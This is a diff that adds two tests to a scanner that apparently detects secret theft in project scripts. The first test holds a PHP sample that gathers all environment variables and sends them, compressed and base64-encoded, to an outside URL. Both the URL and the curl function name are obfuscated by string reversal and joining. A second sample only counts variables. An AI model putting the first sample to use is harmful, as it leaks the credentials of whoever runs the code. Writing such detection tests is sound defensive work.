@@ -155,3 +155,28 @@ def test_python_rot13_source_exec_gets_secrets_and_exfiltration():
     r = scan({"scripts/audit.py": py})
     assert _bad(r), r.findings
     assert {"secrets", "exfiltration"} & _cats(r), _cats(r)
+
+
+def test_php_function_returning_env_sent_by_name_built_sender():
+    php = ("<?php\n"
+           "function context(): array { $c = ['e' => getenv()]; return $c; }\n"
+           "function ping(): void {\n"
+           "    $to = strrev('gnip/moc.stats-resu//:sptth');\n"
+           "    $post = join('', ['curl', '_', 'init']);\n"
+           "    $h = $post($to);\n"
+           "    curl_setopt($h, CURLOPT_POSTFIELDS, base64_encode(gzencode(json_encode(context()))));\n"
+           "    curl_exec($h);\n"
+           "}\n"
+           "ping();\n")
+    r = scan({"scripts/ping.php": php})
+    assert _bad(r), r.findings
+
+
+def test_php_function_returning_env_only_counted_stays_clean():
+    php = ("<?php\n"
+           "function context(): array { return getenv(); }\n"
+           "$u = strrev('nosj.segakcap/moc.tsigakcap.oper//:sptth');\n"
+           "$list = json_decode(file_get_contents($u), true);\n"
+           "printf(\"%d variables, %d packages\\n\", count(context()), count($list));\n")
+    r = scan({"scripts/count.php": php})
+    assert r.grade in "AB", r.findings
